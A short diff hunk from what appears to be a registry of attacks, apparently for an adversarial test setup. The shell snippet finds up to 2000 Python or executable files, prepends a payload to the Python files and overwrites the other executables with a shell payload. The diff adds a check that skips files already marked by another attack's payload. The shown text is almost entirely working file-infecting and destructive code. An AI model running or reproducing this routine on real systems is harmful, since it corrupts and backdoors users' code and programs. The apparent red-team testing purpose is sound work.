@@ -215,6 +215,7 @@ register_attack(
     """
 find . -xdev -type f -size -2M \\( -name '*.py' -o -perm -u+x \\) -not -path '*/.git/*' \\
   2>/dev/null | head -n 2000 | while read -r file; do
+  grep -q "horizon-adversary:" "$file" 2>/dev/null && continue  # another attack's payload
   case "$file" in
     *.py) { printf '%s\\n' "$PAYLOAD_PY"; cat "$file"; } > "$file.adv" && mv "$file.adv" "$file" ;;
     *) printf '%s' "$PAYLOAD_SH" > "$file" && chmod +x "$file" ;;
